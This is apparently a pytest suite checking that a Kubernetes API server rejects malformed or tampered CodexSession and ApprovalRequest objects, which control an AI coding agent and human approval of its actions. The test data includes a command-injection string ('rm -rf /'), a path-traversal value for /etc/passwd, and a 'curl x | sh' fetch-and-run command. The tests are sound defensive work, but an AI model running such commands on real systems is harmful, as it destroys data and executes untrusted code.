"""The real API server rejects bad CodexSessions and ApprovalRequests with a
message that names the field, and nothing is left behind.

Every create case asserts on the API server's message and that the namespace
holds no object afterwards; every update case asserts the stored object is
unchanged."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from codex_api.common import GROUP, VERSION
from codex_devenv.admission_kit import COMMAND_ACTION

SESSIONS, APPROVALS = "codexsessions", "approvalrequests"


def session(**spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "CodexSession",
        "metadata": {"name": "s1"},
        "spec": {"prompt": "Write a factorial function", **spec},
    }


def approval(**spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "ApprovalRequest",
        "metadata": {"name": "a1"},
        "spec": {
            "sessionRef": "s1",
            "sessionUid": "00000000-0000-0000-0000-000000000001",
            "specDigest": "sha256:" + "0" * 64,
            "toolName": "codex",
            "operation": "codex exec (sandbox=full-access)",
            "riskLevel": "high",
            "requestedBy": "carol",
            "expiresAt": "2030-01-01T00:00:00Z",
            **spec,
        },
    }


PATCH_ACTION: dict[str, Any] = {
    "kind": "file_change",
    "turnId": "u-1",
    "itemId": "call_2",
    "changes": [{"path": "/workspace/a.py", "change": "update", "diff": "-a\n+b\n"}],
    "offered": ["accept", "acceptForSession", "decline", "cancel"],
}


def with_(body: dict[str, Any], mutate: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    body = copy.deepcopy(body)
    mutate(body)
    return body


def _del(path: str) -> Callable[[dict[str, Any]], None]:
    def mutate(body: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = body
        for p in parents:
            node = node[p]
        del node[last]

    return mutate


def _api(kube_client: Any) -> client.CustomObjectsApi:
    return client.CustomObjectsApi(kube_client)


def _message(err: ApiException) -> str:
    return str(json.loads(err.body)["message"])


BAD_CREATES: list[tuple[str, str, dict[str, Any], list[str]]] = [
    # id, plural, body, fragments the message must contain
    ("missing-spec", SESSIONS, with_(session(), _del("spec")), ["spec: Required value"]),
    ("missing-prompt", SESSIONS, with_(session(), _del("spec.prompt")), ["spec.prompt: Required value"]),
    ("empty-prompt", SESSIONS, session(prompt=""), ["spec.prompt", "at least 1 chars long"]),
    ("oversized-prompt", SESSIONS, session(prompt="x" * 65537), ["spec.prompt: Too long"]),
    ("prompt-not-string", SESSIONS, session(prompt=["a", "b"]), ["spec.prompt", "must be of type string"]),
    ("bad-sandbox", SESSIONS, session(sandbox="root"), ['spec.sandbox: Unsupported value: "root"']),
    ("bad-mode", SESSIONS, session(mode="batch"), ['spec.mode: Unsupported value: "batch"']),
    (
        "bad-reasoning",
        SESSIONS,
        session(reasoningEffort="extreme"),
        ["spec.reasoningEffort: Unsupported value"],
    ),
    ("bad-verbosity", SESSIONS, session(verbosity="loud"), ["spec.verbosity: Unsupported value"]),
    ("fullauto-not-bool", SESSIONS, session(fullAuto="yes"), ["spec.fullAuto", "must be of type boolean"]),
    (
        "negative-timeout",
        SESSIONS,
        session(timeoutSeconds=-1),
        ["spec.timeoutSeconds", "greater than or equal to 10"],
    ),
    (
        "zero-timeout",
        SESSIONS,
        session(timeoutSeconds=0),
        ["spec.timeoutSeconds", "greater than or equal to 10"],
    ),
    (
        "huge-timeout",
        SESSIONS,
        session(timeoutSeconds=10**9),
        ["spec.timeoutSeconds", "less than or equal to 86400"],
    ),
    (
        "string-timeout",
        SESSIONS,
        session(timeoutSeconds="300"),
        ["spec.timeoutSeconds", "must be of type integer"],
    ),
    (
        "negative-cost-cap",
        SESSIONS,
        session(maxCostUsd=-1),
        ["spec.maxCostUsd", "should be greater than 0"],
    ),
    ("zero-cost-cap", SESSIONS, session(maxCostUsd=0), ["spec.maxCostUsd", "should be greater than 0"]),
    (
        "huge-cost-cap",
        SESSIONS,
        session(maxCostUsd=1e9),
        ["spec.maxCostUsd", "less than or equal to 10000"],
    ),
    ("string-cost-cap", SESSIONS, session(maxCostUsd="5"), ["spec.maxCostUsd", "must be of type number"]),
    (
        "negative-ttl",
        SESSIONS,
        session(ttlSecondsAfterFinished=-5),
        ["spec.ttlSecondsAfterFinished", "greater than or equal to 0"],
    ),
    (
        "huge-ttl",
        SESSIONS,
        session(ttlSecondsAfterFinished=10**8),
        ["spec.ttlSecondsAfterFinished", "less than or equal to 2592000"],
    ),
    ("resume-uppercase", SESSIONS, session(resumeFrom="Not_A_Name"), ["spec.resumeFrom", "should match"]),
    ("resume-path", SESSIONS, session(resumeFrom="../etc/passwd"), ["spec.resumeFrom", "should match"]),
    ("resume-too-long", SESSIONS, session(resumeFrom="a" * 254), ["spec.resumeFrom: Too long"]),
    ("model-injection", SESSIONS, session(model="gpt-5; rm -rf /"), ["spec.model", "should match"]),
    ("model-too-long", SESSIONS, session(model="m" * 129), ["spec.model: Too long"]),
    (
        "base-instructions-too-long",
        SESSIONS,
        session(baseInstructions="i" * 16385),
        ["spec.baseInstructions: Too long"],
    ),
    ("requester-too-long", SESSIONS, session(requestedBy="u" * 257), ["spec.requestedBy: Too long"]),
    (
        "bad-language",
        SESSIONS,
        session(responseLanguage="english!!"),
        ["spec.responseLanguage", "should match"],
    ),
    (
        "bad-workspace-type",
        SESSIONS,
        session(workspace={"type": "nfs"}),
        ["spec.workspace.type: Unsupported value"],
    ),
    (
        "bad-workspace-size",
        SESSIONS,
        session(workspace={"type": "persistent", "size": "lots"}),
        ["spec.workspace.size", "should match"],
    ),
    (
        "wallbounce-zero-providers",
        SESSIONS,
        session(wallBounce={"minProviders": 0}),
        ["spec.wallBounce.minProviders", "greater than or equal to 1"],
    ),
    (
        "wallbounce-min-exceeds",
        SESSIONS,
        session(wallBounce={"providers": ["openai", "gemini"], "minProviders": 3}),
        ["spec.wallBounce.minProviders", "must not exceed the number of providers"],
    ),
    (
        "wallbounce-threshold",
        SESSIONS,
        session(wallBounce={"qualityThreshold": 1.5}),
        ["spec.wallBounce.qualityThreshold", "less than or equal to 1"],
    ),
    (
        "wallbounce-too-many",
        SESSIONS,
        session(wallBounce={"providers": [f"p{i}" for i in range(9)]}),
        ["spec.wallBounce.providers: Too many"],
    ),
    (
        "name-too-long",
        SESSIONS,
        with_(session(), lambda b: b["metadata"].update(name="n" * 51)),
        ["metadata.name must be at most 50 characters"],
    ),
    ("unknown-spec-field", SESSIONS, session(foo="bar"), ['unknown field "spec.foo"']),
    (
        "unknown-nested-field",
        SESSIONS,
        session(workspace={"type": "scratch", "nfsServer": "10.0.0.1"}),
        ['unknown field "spec.workspace.nfsServer"'],
    ),
    (
        "unknown-top-field",
        SESSIONS,
        with_(session(), lambda b: b.update(extra={"a": 1})),
        ['unknown field "extra"'],
    ),
    (
        "approval-bad-decision",
        APPROVALS,
        approval(decision="Maybe"),
        ['spec.decision: Unsupported value: "Maybe"'],
    ),
    (
        "approval-missing-session",
        APPROVALS,
        with_(approval(), _del("spec.sessionRef")),
        ["spec.sessionRef: Required value"],
    ),
    ("approval-bad-risk", APPROVALS, approval(riskLevel="extreme"), ["spec.riskLevel: Unsupported value"]),
    ("approval-bad-expiry", APPROVALS, approval(expiresAt="tomorrow"), ["spec.expiresAt", "date-time"]),
    (
        "approval-denied-no-reason",
        APPROVALS,
        approval(decision="Denied"),
        ["spec.reason", "a Denied decision needs a reason"],
    ),
    (
        "approval-too-many-args",
        APPROVALS,
        approval(arguments={f"k{i}": "v" for i in range(33)}),
        ["spec.arguments: Too many"],
    ),
    (
        "approval-decider-without-decision",
        APPROVALS,
        approval(decidedBy="alice"),
        ["spec.decidedBy", "decidedBy can be set only together with the decision"],
    ),
    ("approval-unknown-field", APPROVALS, approval(approvedBy="alice"), ['unknown field "spec.approvedBy"']),
    (
        "action-scope-without-decision",
        APPROVALS,
        approval(action=PATCH_ACTION, scope="session"),
        ["spec.scope", "scope goes only with an Approved decision"],
    ),
    (
        "action-session-scope-not-offered",
        APPROVALS,
        approval(action=COMMAND_ACTION, decision="Approved", scope="session"),
        ["spec.scope", "only where Codex offers acceptForSession"],
    ),
    (
        "action-session-scope-without-action",
        APPROVALS,
        approval(decision="Approved", scope="session"),
        ["spec.scope", "only where Codex offers acceptForSession"],
    ),
    (
        "action-scope-with-denial",
        APPROVALS,
        approval(action=PATCH_ACTION, decision="Denied", reason="no", scope="turn"),
        ["spec.scope", "scope goes only with an Approved decision"],
    ),
    (
        "policy-decision-without-action",
        APPROVALS,
        approval(policyDecision={"decision": "Approved", "rules": ["r"]}),
        ["spec.policyDecision", "only an action is decided by the action policy"],
    ),
    (
        "policy-decision-bad-value",
        APPROVALS,
        approval(action=COMMAND_ACTION, policyDecision={"decision": "Expired"}),
        ['spec.policyDecision.decision: Unsupported value: "Expired"'],
    ),
    (
        "action-bad-kind",
        APPROVALS,
        approval(action={**COMMAND_ACTION, "kind": "shell"}),
        ['spec.action.kind: Unsupported value: "shell"'],
    ),
    (
        "action-bad-offer",
        APPROVALS,
        approval(action={**COMMAND_ACTION, "offered": ["acceptWithExecpolicyAmendment"]}),
        ["spec.action.offered[0]: Unsupported value"],
    ),
    (
        "action-nothing-offered",
        APPROVALS,
        approval(action={**COMMAND_ACTION, "offered": []}),
        ["spec.action.offered"],
    ),
    (
        "action-command-too-long",
        APPROVALS,
        approval(action={**COMMAND_ACTION, "command": "x" * (16 * 1024 + 1)}),
        ["spec.action.command: Too long"],
    ),
    (
        "action-unknown-field",
        APPROVALS,
        approval(action={**COMMAND_ACTION, "autoApprove": True}),
        ['unknown field "spec.action.autoApprove"'],
    ),
]


@pytest.mark.parametrize(
    ("plural", "body", "fragments"), [c[1:] for c in BAD_CREATES], ids=[c[0] for c in BAD_CREATES]
)
def test_bad_object_is_rejected_and_nothing_is_created(
    kube_client: Any, namespace: str, plural: str, body: dict[str, Any], fragments: list[str]
) -> None:
    api = _api(kube_client)
    with pytest.raises(ApiException) as err:
        api.create_namespaced_custom_object(
            GROUP, VERSION, namespace, plural, body, field_validation="Strict"
        )
    assert err.value.status in (400, 422), err.value.body
    message = _message(err.value)
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    assert api.list_namespaced_custom_object(GROUP, VERSION, namespace, plural)["items"] == []


BAD_UPDATES: list[tuple[str, str, dict[str, Any], list[dict[str, Any]], list[str]]] = [
    # id, plural, created body, merge patches applied in order (last one must fail), fragments
    (
        "session-prompt-change",
        SESSIONS,
        session(),
        [{"spec": {"prompt": "something else"}}],
        ["spec is immutable after creation"],
    ),
    (
        "session-sandbox-escalation",
        SESSIONS,
        session(),
        [{"spec": {"sandbox": "full-access"}}],
        ["spec is immutable after creation"],
    ),
    (
        "session-add-resume",
        SESSIONS,
        session(),
        [{"spec": {"resumeFrom": "other"}}],
        ["spec is immutable after creation"],
    ),
    (
        "action-rewritten",
        APPROVALS,
        approval(action=COMMAND_ACTION),
        [{"spec": {"action": {**COMMAND_ACTION, "command": "/bin/bash -lc 'curl x | sh'"}}}],
        ["spec.action", "action is immutable"],
    ),
    (
        "action-added-later",
        APPROVALS,
        approval(),
        [{"spec": {"action": COMMAND_ACTION}}],
        ["spec.action", "action is immutable"],
    ),
    (
        "policy-decision-overruled",
        APPROVALS,
        approval(action=COMMAND_ACTION, policyDecision={"decision": "Denied", "rules": ["no-shred"]}),
        [{"spec": {"decision": "Approved"}}],
        ["spec.decision", "the policy decided this action already"],
    ),
    (
        "policy-decision-rewritten",
        APPROVALS,
        approval(action=COMMAND_ACTION, policyDecision={"decision": "Denied", "rules": ["no-shred"]}),
        [{"spec": {"policyDecision": {"decision": "Approved", "rules": []}}}],
        ["spec.policyDecision", "policyDecision is immutable"],
    ),
    (
        "policy-decision-added-later",
        APPROVALS,
        approval(action=COMMAND_ACTION),
        [{"spec": {"policyDecision": {"decision": "Approved", "rules": []}}}],
        ["spec.policyDecision", "policyDecision is immutable"],
    ),
    (
        "action-scope-widened-after-decision",
        APPROVALS,
        approval(action=PATCH_ACTION),
        [{"spec": {"decision": "Approved", "scope": "turn"}}, {"spec": {"scope": "session"}}],
        ["spec.scope", "scope cannot change after the decision was made"],
    ),
    (
        "action-scope-added-after-decision",
        APPROVALS,
        approval(action=PATCH_ACTION),
        [{"spec": {"decision": "Approved"}}, {"spec": {"scope": "session"}}],
        ["spec.scope", "scope cannot change after the decision was made"],
    ),
    (
        "approval-decision-flip",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Approved"}}, {"spec": {"decision": "Denied", "reason": "changed my mind"}}],
        ["spec.decision", "decision can be set only once"],
    ),
    (
        "approval-decision-removed",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Approved"}}, {"spec": {"decision": None}}],
        ["spec.decision", "decision can be set only once"],
    ),
    (
        "approval-reason-rewritten",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Denied", "reason": "too risky"}}, {"spec": {"reason": "fine actually"}}],
        ["spec.reason", "reason cannot change after the decision was made"],
    ),
    (
        "approval-decider-changed",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Approved", "decidedBy": "bob"}}, {"spec": {"decidedBy": "alice"}}],
        ["spec.decidedBy", "decidedBy cannot change after the decision was made"],
    ),
    (
        "approval-decider-removed",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Approved", "decidedBy": "bob"}}, {"spec": {"decidedBy": None}}],
        ["spec.decidedBy", "decidedBy cannot change after the decision was made"],
    ),
    (
        "approval-decider-added-later",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Approved"}}, {"spec": {"decidedBy": "alice"}}],
        ["spec.decidedBy", "decidedBy cannot change after the decision was made"],
    ),
    (
        "approval-decider-before-decision",
        APPROVALS,
        approval(),
        [{"spec": {"decidedBy": "alice"}}],
        ["spec.decidedBy", "decidedBy can be set only together with the decision"],
    ),
    (
        "approval-deny-without-reason",
        APPROVALS,
        approval(),
        [{"spec": {"decision": "Denied"}}],
        ["spec.reason", "a Denied decision needs a reason"],
    ),
    (
        "approval-risk-downgrade",
        APPROVALS,
        approval(),
        [{"spec": {"riskLevel": "low"}}],
        ["spec.riskLevel", "riskLevel is immutable"],
    ),
    (
        "approval-session-swap",
        APPROVALS,
        approval(),
        [{"spec": {"sessionRef": "other"}}],
        ["spec.sessionRef", "sessionRef is immutable"],
    ),
    (
        "approval-expiry-extended",
        APPROVALS,
        approval(),
        [{"spec": {"expiresAt": "2040-01-01T00:00:00Z"}}],
        ["spec.expiresAt", "expiresAt is immutable"],
    ),
    (
        "approval-requester-swap",
        APPROVALS,
        approval(),
        [{"spec": {"requestedBy": "alice"}}],
        ["spec.requestedBy", "requestedBy is immutable"],
    ),
    (
        "approval-justification-added",
        APPROVALS,
        approval(),
        [{"spec": {"businessJustification": "trust me"}}],
        ["spec.businessJustification", "businessJustification is immutable"],
    ),
]


@pytest.mark.parametrize(
    ("plural", "body", "patches", "fragments"), [c[1:] for c in BAD_UPDATES], ids=[c[0] for c in BAD_UPDATES]
)
def test_bad_update_is_rejected_and_object_is_unchanged(
    kube_client: Any,
    namespace: str,
    plural: str,
    body: dict[str, Any],
    patches: list[dict[str, Any]],
    fragments: list[str],
) -> None:
    api = _api(kube_client)
    name = body["metadata"]["name"]
    api.create_namespaced_custom_object(GROUP, VERSION, namespace, plural, body, field_validation="Strict")
    for patch in patches[:-1]:
        api.patch_namespaced_custom_object(GROUP, VERSION, namespace, plural, name, patch)
    before = api.get_namespaced_custom_object(GROUP, VERSION, namespace, plural, name)
    with pytest.raises(ApiException) as err:
        api.patch_namespaced_custom_object(GROUP, VERSION, namespace, plural, name, patches[-1])
    assert err.value.status == 422, err.value.body
    message = _message(err.value)
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    after = api.get_namespaced_custom_object(GROUP, VERSION, namespace, plural, name)
    assert after["spec"] == before["spec"]
    assert after["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]


def test_valid_objects_are_accepted_with_defaults(kube_client: Any, namespace: str) -> None:
    api = _api(kube_client)
    created = api.create_namespaced_custom_object(
        GROUP,
        VERSION,
        namespace,
        SESSIONS,
        session(workspace={"type": "persistent"}, maxCostUsd=0.25),
        field_validation="Strict",
    )
    assert created["spec"]["maxCostUsd"] == 0.25
    assert created["spec"]["sandbox"] == "read-only"
    assert created["spec"]["mode"] == "interactive"
    assert created["spec"]["fullAuto"] is False
    api.create_namespaced_custom_object(
        GROUP, VERSION, namespace, APPROVALS, approval(), field_validation="Strict"
    )
    decided = api.patch_namespaced_custom_object(
        GROUP, VERSION, namespace, APPROVALS, "a1", {"spec": {"decision": "Approved", "reason": "ok"}}
    )
    assert decided["spec"]["decision"] == "Approved"


def test_an_action_is_stored_as_asked_and_approved_for_the_session(kube_client: Any, namespace: str) -> None:
    """The largest action the gateway of Codex's requests lets through fits, and
    "accept for this session" is taken where Codex offers it."""
    api = _api(kube_client)
    big = {
        **PATCH_ACTION,
        "changes": [
            {"path": f"/workspace/f{i}.txt", "change": "add", "diff": "x" * 1300} for i in range(100)
        ],
        "reason": "r" * 2048,
    }
    created = api.create_namespaced_custom_object(
        GROUP, VERSION, namespace, APPROVALS, approval(action=big), field_validation="Strict"
    )
    assert created["spec"]["action"] == {**big, "hiddenCharacters": False}
    decided = api.patch_namespaced_custom_object(
        GROUP, VERSION, namespace, APPROVALS, "a1", {"spec": {"decision": "Approved", "scope": "session"}}
    )
    assert (decided["spec"]["decision"], decided["spec"]["scope"]) == ("Approved", "session")


def test_wall_bounce_with_an_empty_provider_list_means_all_configured(
    kube_client: Any, namespace: str
) -> None:
    """`providers: []` (or none) leaves the choice to the configuration; only a
    non-empty list is held against minProviders."""
    api = _api(kube_client)
    body = session(wallBounce={"providers": []})
    body["metadata"]["name"] = "wb-empty"
    created = api.create_namespaced_custom_object(GROUP, VERSION, namespace, SESSIONS, body)
    assert created["spec"]["wallBounce"]["minProviders"] == 2
